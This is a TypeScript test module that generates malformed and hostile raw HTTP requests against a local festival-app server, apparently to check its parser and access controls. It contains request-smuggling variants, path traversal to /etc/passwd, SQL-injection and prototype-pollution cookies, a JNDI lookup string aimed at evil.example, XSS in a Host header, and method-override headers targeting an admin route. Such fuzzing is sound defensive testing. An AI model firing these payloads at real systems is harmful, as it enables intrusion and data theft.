import { each, type Hostile, MARK } from './hostile-file.ts'

/** What a request asks besides what it brings along, and where it ends. */
const asked = (headers: readonly string[], body = '', start = 'POST /api/sessions HTTP/1.1') =>
  Buffer.from([start, 'Host: localhost', ...headers, 'Connection: close', '', body].join('\r\n'), 'latin1')
const get = (...headers: string[]) => asked(headers, '', 'GET /api/event HTTP/1.1')

/** A second request that must be read as the body of the first, or not at all. */
const second = `GET /${MARK} HTTP/1.1\r\nHost: localhost\r\n\r\n`
const json = 'Content-Type: application/json'

const smuggled: Record<string, Buffer> = {
  'two lengths': asked(['Content-Length: 0', `Content-Length: ${second.length}`], second),
  'a length and chunks': asked(['Content-Length: 4', 'Transfer-Encoding: chunked'], `0\r\n\r\n${second}`),
  'chunks and a length': asked(['Transfer-Encoding: chunked', 'Content-Length: 4'], `0\r\n\r\n${second}`),
  'chunks twice': asked(['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'], `0\r\n\r\n${second}`),
  'chunks and something else': asked(['Transfer-Encoding: chunked, identity'], `0\r\n\r\n${second}`),
  'something like chunks': asked(['Transfer-Encoding: xchunked'], `0\r\n\r\n${second}`),
  'chunks behind a tab': asked(['Transfer-Encoding:\tchunked'], `0\r\n\r\n${second}`),
  'chunks behind a space': asked(['Transfer-Encoding : chunked'], `0\r\n\r\n${second}`),
  'a folded line': asked(['X: 1', ' Transfer-Encoding: chunked'], second),
  'lines that end in one letter': Buffer.from(
    `POST /api/sessions HTTP/1.1\nHost: localhost\nContent-Length: 0\n\n${second}`,
  ),
  'a carriage return alone': asked([`X: 1\rContent-Length: ${second.length}`], second),
  'a line in a header': asked(['X: 1\n\nGET /x HTTP/1.1'], second),
  'a length below zero': asked(['Content-Length: -1'], second),
  'a length with a plus': asked(['Content-Length: +5'], second),
  'a length in hexadecimal digits': asked(['Content-Length: 0x10'], second),
  'a length of two': asked(['Content-Length: 5, 6'], second),
  'a length beyond all numbers': asked([`Content-Length: ${'9'.repeat(40)}`], second),
  'a length of nothing': asked(['Content-Length:'], second),
  'a chunk beyond all numbers': asked([json, 'Transfer-Encoding: chunked'], `${'f'.repeat(20)}\r\n{}\r\n`),
  'a chunk below zero': asked([json, 'Transfer-Encoding: chunked'], '-1\r\n{}\r\n0\r\n\r\n'),
  'a chunk with a long note': asked(
    [json, 'Transfer-Encoding: chunked'],
    `2;${'x'.repeat(30_000)}\r\n{}\r\n0\r\n\r\n`,
  ),
  'chunks with a trailer': asked(
    [json, 'Transfer-Encoding: chunked'],
    '2\r\n{}\r\n0\r\nContent-Length: 99\r\n\r\n',
  ),
  'a chunk that ends wrongly': asked([json, 'Transfer-Encoding: chunked'], '2\r\n{}XX0\r\n\r\n'),
  'a body of a GET': asked([`Content-Length: ${second.length}`], second, 'GET /api/event HTTP/1.1'),
  'the beginning of HTTP/2': Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  'an upgrade to HTTP/2': get('Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA'),
  'an upgrade to a socket': get('Upgrade: websocket', 'Sec-WebSocket-Key: x', 'Sec-WebSocket-Version: 13'),
}

const starts = [
  'GET / HTTP/9.9',
  'GET /',
  'GET  /api/event  HTTP/1.1',
  'get /api/event HTTP/1.1',
  'TRACE / HTTP/1.1',
  'CONNECT evil.example:443 HTTP/1.1',
  'PROPFIND / HTTP/1.1',
  'XYZZY / HTTP/1.1',
  'GET http://evil.example/ HTTP/1.1',
  'GET //evil.example/%2f.. HTTP/1.1',
  'GET /api/../../../etc/passwd HTTP/1.1',
  'GET /..%2f..%2fetc%2fpasswd HTTP/1.1',
  'GET /api/event%00.json HTTP/1.1',
  'GET /api/%c0%ae%c0%ae/ HTTP/1.1',
  'GET /%zz HTTP/1.1',
  'GET /api/event;jsessionid=1 HTTP/1.1',
  'GET \\api\\event HTTP/1.1',
  'GET /\x01 HTTP/1.1',
  `GET /${'a'.repeat(20_000)} HTTP/1.1`,
  `GET /${'a/'.repeat(3_000)} HTTP/1.1`,
  `GET /api/leaderboard?${'a=1&'.repeat(3_000)} HTTP/1.1`,
]

/** The value of a cookie, and whole lines of them. */
const cookies = [
  '',
  ';',
  '=',
  ';;;;=;=;',
  'livefest_staff',
  'livefest_staff=',
  'livefest_staff=;livefest_staff=',
  'livefest_staff=%',
  'livefest_staff=%00',
  'livefest_staff=%E0%A4%A',
  'livefest_staff="let me in"',
  'livefest_staff={"role":"admin"}',
  "livefest_staff=' OR 1=1 --",
  'livefest_staff=../../etc/passwd',
  `livefest_staff=${'a'.repeat(4_000)}`,
  `${'a=1; '.repeat(2_000)}`,
  'livefest_station=\x80\xff',
  'livefest_phone=é',
  'livefest_phone=a\tb',
  'livefest_phone=a,livefest_staff=b',
  '__Host-livefest_staff=a; __Host-livefest_staff=b',
  '__proto__=1; constructor=2; toString=3',
  'livefest_staff[]=1',
  '$Version=1; livefest_staff=a; $Path=/',
]

const contentTypes = [
  '',
  ' ',
  '/',
  'application',
  'application/',
  'application/json/',
  'application/json, text/html',
  'application/json; charset=utf-16',
  'application/json; charset="',
  'application/json;;;',
  'application/JSON',
  'application/json+evil',
  'text/json',
  'text/xml',
  'application/xml',
  'application/x-www-form-urlencoded',
  'application/octet-stream',
  'application/x-java-serialized-object',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  `multipart/form-data; boundary=${'-'.repeat(2_000)}`,
  'multipart/mixed; boundary=x',
  `application/json; x=${'y'.repeat(8_000)}`,
]

const headers: Record<string, string[]> = {
  'a thousand of them': Array.from({ length: 1_000 }, (_, n) => `X-${n}: 1`),
  'ten thousand of them': Array.from({ length: 10_000 }, (_, n) => `X-${n}: 1`),
  'one of 20 kB': [`X: ${'x'.repeat(20_000)}`],
  'one of a megabyte': [`X: ${'x'.repeat(1024 * 1024)}`],
  'one without a name': [': 1'],
  'one without a colon': ['X'],
  'one with a space in its name': ['X Y: 1'],
  'one with a zero': ['X: a\0b'],
  'one of letters beyond ASCII': ['X: \xe9\xff'],
  'another host': ['Host: evil.example'],
  'a host that is an attack': ['Host: a"><script>'],
  'a client that calls itself another': [
    'X-Forwarded-For: 127.0.0.1',
    'X-Forwarded-Host: evil.example',
    'X-Forwarded-Proto: gopher',
  ],
  'a client of ten thousand proxies': [`X-Forwarded-For: ${'1.1.1.1, '.repeat(1_500)}`],
  'a client that is no address': ["X-Forwarded-For: ' OR 1=1", 'X-Real-IP: \x24{jndi:ldap://evil.example}'],
  'an origin that is none': ['Origin: null'],
  'a foreign origin': ['Origin: https://evil.example'],
  'an origin that is nearly ours': ['Origin: http://localhost.evil.example'],
  'an origin that cannot be read': ['Origin: http://[::'],
  'a page of another site': ['Sec-Fetch-Site: cross-site'],
  'a range beyond the end': ['Range: bytes=0-99999999999'],
  'a thousand ranges': [`Range: bytes=${'0-1,'.repeat(1_000)}`],
  'a thousand tags of what is known': [`If-None-Match: ${'"a", '.repeat(1_000)}`],
  'a tag that cannot be read': ['If-None-Match: W/"'],
  'a day that never was': ['If-Modified-Since: Tue, 99 Foo 9999 99:99:99 GMT'],
  'ten thousand languages': [`Accept-Language: ${'de;q=0.1,'.repeat(1_500)}`],
  'a media type that cannot be read': ['Accept: */*;q=NaN, ;;;, text/'],
  'an encoding that there is not': ['Accept-Encoding: zz;q=2, *;q=-1'],
  'a bearer of nothing': ['Authorization: Bearer'],
  'a bearer of much': [`Authorization: Bearer ${'a'.repeat(8_000)}`],
  'a key with spaces': ['Idempotency-Key: a b c'],
  'an endless key': [`Idempotency-Key: ${'k'.repeat(8_000)}`],
  'an event from the future': [`Last-Event-ID: ${'9'.repeat(400)}`],
  'what it expects': ['Expect: 200-ok'],
  'another method': ['X-HTTP-Method-Override: DELETE', 'X-HTTP-Method: DELETE', 'X-Method-Override: DELETE'],
  'an address written over': ['X-Original-URL: /api/admin/attendees', 'X-Rewrite-URL: /api/admin/attendees'],
}

/** Requests that no browser sends, byte by byte. */
export function hostileRequests(): Hostile<Buffer>[] {
  const text = (value: string) => JSON.stringify(value.slice(0, 60))
  return [
    ...each(smuggled, (bytes) => bytes).map(({ name, content }) => ({
      name: `a request with ${name}`,
      content,
    })),
    ...starts.map((start) => ({
      name: `a request that starts with ${text(start)}`,
      content: asked([], '', start),
    })),
    ...cookies.map((cookie) => ({
      name: `the cookie ${text(cookie)}`,
      content: asked([`Cookie: ${cookie}`], '', 'GET /api/admin/attendees HTTP/1.1'),
    })),
    ...contentTypes.map((type) => ({
      name: `the content type ${text(type)}`,
      content: asked([`Content-Type: ${type}`, 'Content-Length: 12'], '{"code":"1"}'),
    })),
    ...each(headers, (given) => get(...given)).map(({ name, content }) => ({
      name: `headers: ${name}`,
      content,
    })),
  ]
}
